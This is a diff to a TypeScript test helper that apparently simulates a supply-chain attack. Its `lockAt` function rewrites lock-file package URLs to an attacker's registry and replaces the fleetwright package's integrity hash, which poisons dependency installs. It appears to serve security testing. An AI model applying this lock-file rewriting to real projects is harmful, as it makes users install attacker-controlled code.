@@ -26,13 +26,15 @@ for (const name of ['plan.md', 'plan.html']) try { fs.writeFileSync(name, '<!-- 
 `;
 }
 
-/** An app in JavaScript with one configuration, and other code before it. */
+/** An app in JavaScript that configures an add-on on all clusters, with other code before it. */
 export function appWith(code: string): string {
-  return `import { AddOnDeploymentConfig, App, Chart } from 'fleetwright';
+  return `import { AddOnDeploymentConfig, App, Chart, ClusterManagementAddOn, Placement, Toleration } from 'fleetwright';
 ${code}
 const app = new App();
 const chart = new Chart(app, 'code', { namespace: 'default' });
-new AddOnDeploymentConfig(chart, 'config', { customizedVariables: { LEVEL: 'info' } });
+const placement = new Placement(chart, 'all', { tolerations: [Toleration.unreachable()] });
+const config = new AddOnDeploymentConfig(chart, 'settings', { customizedVariables: { LEVEL: 'info' } });
+new ClusterManagementAddOn(chart, 'code', { placements: [{ placement, configs: [config] }] });
 export default app;
 `;
 }
@@ -42,7 +44,9 @@ type Json = Readonly<Record<string, unknown>>;
 /** The state that a request changes. */
 export interface Changed {
   readonly manifest: Json;
-  readonly lock: { readonly packages: Readonly<Record<string, Json>> } & Json;
+  readonly lock: Json & {
+    readonly packages: Readonly<Record<string, Json & { readonly resolved?: string }>>;
+  };
   readonly attacker: Attacker;
   /** The value of `integrity` of the attacker's program. */
   readonly integrity: string;
@@ -61,8 +65,8 @@ const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
 /** The lock file with the address of each package at the attacker's registry, and the integrity of the program there. */
 function lockAt({ lock, attacker, integrity }: Changed): string {
   const packages = Object.entries(lock.packages).map(([place, entry]) => {
-    const resolved = String(entry['resolved'] ?? '').replace(/^http:\/\/[^/]+/, `http://${attacker.host}`);
-    if (resolved === '') return [place, entry];
+    if (entry.resolved === undefined) return [place, entry];
+    const resolved = entry.resolved.replace(/^http:\/\/[^/]+/, `http://${attacker.host}`);
     return [place, { ...entry, resolved, ...(place.endsWith('/fleetwright') && { integrity }) }];
   });
   return json({ ...lock, packages: Object.fromEntries(packages) as Json });
